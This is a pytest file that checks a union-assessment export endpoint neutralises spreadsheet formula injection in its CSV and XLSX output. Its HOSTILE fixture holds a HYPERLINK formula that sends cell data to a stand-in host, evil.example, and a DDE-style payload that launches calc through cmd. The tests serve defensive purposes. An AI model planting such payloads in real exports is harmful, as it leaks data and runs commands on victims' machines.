"""Exports never carry a live formula: a union name chosen by a worker (单位建会) that starts with
``= + - @`` (or a tab or CR) is written as text, neutralised, in CSV and XLSX alike."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from backend.extensions import db
from backend.orgs.models import Org
from tests.assessment.test_runs import _run
from tests.factories import auth

HOSTILE = {
    "n3": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "n4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "n5": "+1+2",
}


def test_hostile_union_names_are_text_in_the_assessment_export(client, factory, city):
    for attr, name in HOSTILE.items():
        db.session.get(Org, getattr(city, attr).id).name = name
    db.session.get(Org, city.tree.union_b1.id).name = "-2+3"
    db.session.commit()
    token = factory.staff_token("t_city")
    run = _run(client, token)
    url = f"/api/v1/staff/assessments/runs/{run['id']}/export"
    names = {*HOSTILE.values(), "-2+3"}

    as_csv = client.get(url, query_string={"format": "csv"}, headers=auth(token))
    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
    first_cells = {row[0] for row in rows[1:]}
    assert {"'" + n for n in names} <= first_cells
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)

    as_xlsx = client.get(url, query_string={"format": "xlsx"}, headers=auth(token))
    with zipfile.ZipFile(io.BytesIO(as_xlsx.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(as_xlsx.data)).active
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    for name in names:
        assert cells["'" + name].data_type == "s", name
    scores = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert all(not str(s).startswith("'") for s in scores)  # numbers are not touched


def test_csv_cells_that_start_like_formulas_are_neutralised_and_numbers_kept():
    from backend.common import downloads

    body = downloads.csv_bytes([["=1+1", 5, None], ["\tcmd", "正常文本", "-"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["'=1+1", "5", ""], ["'\tcmd", "正常文本", "'-"]]
